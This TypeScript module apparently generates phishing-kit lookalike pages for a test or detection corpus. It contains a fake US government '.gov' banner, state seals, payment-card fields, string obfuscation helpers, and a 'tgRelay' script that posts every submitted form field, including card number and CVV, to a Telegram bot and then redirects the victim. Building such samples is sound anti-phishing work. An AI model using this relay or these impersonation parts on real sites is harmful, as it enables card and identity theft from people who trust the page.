/**
 * Shared furniture for the ye- pages: document shell, US government banners, card fields, small
 * logos, a few scripts that many sites (and the kits that copy them) carry.
 */

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

/** A string as a JS array of char codes, the way packers write it. */
export const codes = (s: string): string => Array.from(s).map((c) => c.charCodeAt(0)).join(',');

/** Hex-escaped string literal body (\x41\x42...). */
export const hexLit = (s: string): string => Array.from(Buffer.from(s, 'utf8')).map((b) => '\\x' + b.toString(16).padStart(2, '0')).join('');

export const rev = (s: string): string => Array.from(s).reverse().join('');

export type DocOpts = {
  title: string;
  body: string;
  lang?: string;
  head?: string;
  css?: string;
  bodyAttrs?: string;
  favicon?: string;
};

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.favicon ? `<link rel="icon" href="${o.favicon}">` : ''}
${o.head ?? ''}
${o.css ? `<style>${o.css}</style>` : ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

/** The "official website of the United States government" strip (USWDS). */
export function usBanner(lang: 'en' | 'es' = 'en'): string {
  const t =
    lang === 'es'
      ? ['Un sitio oficial del Gobierno de Estados Unidos', 'Así es como usted puede verificarlo', 'Los sitios web oficiales usan .gov', 'Un sitio web <strong>.gov</strong> pertenece a una organización oficial del Gobierno de Estados Unidos.']
      : ['An official website of the United States government', "Here's how you know", 'Official websites use .gov', 'A <strong>.gov</strong> website belongs to an official government organization in the United States.'];
  return `<section class="usa-banner" aria-label="${t[0]}">
  <div class="usa-banner__inner">
    <img class="usa-banner__flag" src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="16" height="11"><rect width="16" height="11" fill="#fff"/><g fill="#b22234"><rect width="16" height="1"/><rect y="2" width="16" height="1"/><rect y="4" width="16" height="1"/><rect y="6" width="16" height="1"/><rect y="8" width="16" height="1"/><rect y="10" width="16" height="1"/></g><rect width="7" height="6" fill="#3c3b6e"/></svg>')}" alt="U.S. flag">
    <span class="usa-banner__text">${t[0]}</span>
    <button type="button" class="usa-banner__button" aria-expanded="false">${t[1]}</button>
  </div>
  <div class="usa-banner__content" hidden><p><strong>${t[2]}</strong><br>${t[3]}</p></div>
</section>`;
}

export const usBannerCss = `.usa-banner{background:#f0f0f0;font-size:12px;font-family:Source Sans Pro,Helvetica,Arial,sans-serif}.usa-banner__inner{max-width:1040px;margin:0 auto;padding:4px 16px;display:flex;align-items:center;gap:6px}.usa-banner__button{background:none;border:0;color:#005ea2;text-decoration:underline;font-size:12px;cursor:pointer}`;

/** A state seal as a small inline SVG (circle with initials). */
export function seal(initials: string, color = '#1b3e6f', size = 56): string {
  return `<svg width="${size}" height="${size}" viewBox="0 0 56 56" role="img" aria-label="${esc(initials)} seal"><circle cx="28" cy="28" r="27" fill="${color}" stroke="#c9a227" stroke-width="2"/><circle cx="28" cy="28" r="20" fill="none" stroke="#c9a227" stroke-width="1"/><text x="28" y="33" text-anchor="middle" font-family="Georgia,serif" font-size="14" fill="#fff">${esc(initials)}</text></svg>`;
}

/** A word-mark logo: coloured box with a glyph and a name. */
export function mark(name: string, color: string, glyph = name.slice(0, 1), fg = '#fff'): string {
  return `<span class="brandmark" style="display:inline-flex;align-items:center;gap:8px;font-weight:700;font-size:22px;color:${color}"><svg width="30" height="30" viewBox="0 0 30 30" aria-hidden="true"><rect width="30" height="30" rx="6" fill="${color}"/><text x="15" y="21" text-anchor="middle" font-family="Arial" font-weight="700" font-size="16" fill="${fg}">${esc(glyph)}</text></svg>${esc(name)}</span>`;
}

export type CardOpts = { prefix?: string; zip?: boolean; name?: boolean; labels?: Partial<Record<'name' | 'number' | 'exp' | 'cvv' | 'zip', string>> };

/** Card-holder fields as most checkouts lay them out. */
export function cardFields(o: CardOpts = {}): string {
  const p = o.prefix ?? '';
  const l = { name: 'Name on card', number: 'Card number', exp: 'Expiration (MM/YY)', cvv: 'Security code', zip: 'Billing ZIP code', ...(o.labels ?? {}) };
  return `${o.name === false ? '' : `<div class="fld"><label for="${p}cc-name">${l.name}</label><input id="${p}cc-name" name="${p}cardholder" autocomplete="cc-name" required></div>`}
<div class="fld"><label for="${p}cc-num">${l.number}</label><input id="${p}cc-num" name="${p}cardnumber" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="1234 5678 9012 3456" required></div>
<div class="row2"><div class="fld"><label for="${p}cc-exp">${l.exp}</label><input id="${p}cc-exp" name="${p}exp" autocomplete="cc-exp" placeholder="MM/YY" maxlength="5" required></div>
<div class="fld"><label for="${p}cc-cvv">${l.cvv}</label><input id="${p}cc-cvv" name="${p}cvv" inputmode="numeric" autocomplete="cc-csc" maxlength="4" required></div></div>
${o.zip === false ? '' : `<div class="fld"><label for="${p}cc-zip">${l.zip}</label><input id="${p}cc-zip" name="${p}zip" autocomplete="postal-code" maxlength="10" required></div>`}`;
}

/** Light formatting script for card inputs (spaces every four digits, MM/YY slash). */
export const cardFormatJs = `(function(){var n=document.querySelector('[autocomplete="cc-number"]');if(n){n.addEventListener('input',function(){var v=n.value.replace(/\\D/g,'').slice(0,16);n.value=v.replace(/(.{4})/g,'$1 ').trim();});}
var e=document.querySelector('[autocomplete="cc-exp"]');if(e){e.addEventListener('input',function(){var v=e.value.replace(/\\D/g,'').slice(0,4);e.value=v.length>2?v.slice(0,2)+'/'+v.slice(2):v;});}})();`;

/** Luhn check that many checkouts (and kits) carry. */
export const luhnJs = `function luhn(s){s=String(s).replace(/\\D/g,'');var t=0,a=false;for(var i=s.length-1;i>=0;i--){var d=+s[i];if(a){d*=2;if(d>9)d-=9;}t+=d;a=!a;}return s.length>12&&t%10===0;}`;

export const formCss = `.fld{margin:0 0 14px}.fld label{display:block;font-size:14px;font-weight:600;margin:0 0 4px}.fld input,.fld select{width:100%;box-sizing:border-box;padding:10px 12px;border:1px solid #8d959e;border-radius:4px;font-size:16px}.row2{display:flex;gap:12px}.row2 .fld{flex:1}`;

/** Google-Analytics-shaped snippet sites carry (the script itself 404s on the test server). */
export function gtag(id: string): string {
  return `<script async src="https://www.googletagmanager.com/gtag/js?id=${id}"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','${id}');</script>`;
}

/** A Telegram bot relay of a form, the shape most SMS-kit panels ship. */
export function tgRelay(formId: string, token: string, chat: string, then: string, extra = ''): string {
  return `<script>
(function(){
  var f=document.getElementById('${formId}');
  f.addEventListener('submit',function(ev){
    ev.preventDefault();
    var m='';new FormData(f).forEach(function(v,k){m+=k+': '+v+'\\n';});
    ${extra}
    fetch('https://api.telegram.org/bot${token}/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'${chat}',text:m,parse_mode:'HTML'})})
      .finally(function(){location.href='${then}';});
  });
})();
</script>`;
}

/** A cookie-consent bar many US sites show. */
export function cookieBar(text = 'We use cookies to improve your experience and analyze site traffic.', policy = '/privacy'): string {
  return `<div id="cc-bar" style="position:fixed;bottom:0;left:0;right:0;background:#1f2933;color:#fff;padding:12px 20px;font-size:14px;display:flex;gap:16px;align-items:center;justify-content:center;z-index:50">${text} <a href="${policy}" style="color:#9fd3ff">Privacy policy</a><button onclick="document.getElementById('cc-bar').remove()" style="background:#fff;border:0;padding:6px 14px;border-radius:3px">Accept</button></div>`;
}

/** Simple site footer with link list. */
export function footer(owner: string, links: string[], extra = ''): string {
  return `<footer class="site-footer"><nav>${links.map((l) => `<a href="/${l.toLowerCase().replace(/[^a-z0-9]+/g, '-')}">${esc(l)}</a>`).join(' | ')}</nav>${extra}<p>&copy; 2025 ${esc(owner)}. All rights reserved.</p></footer>`;
}
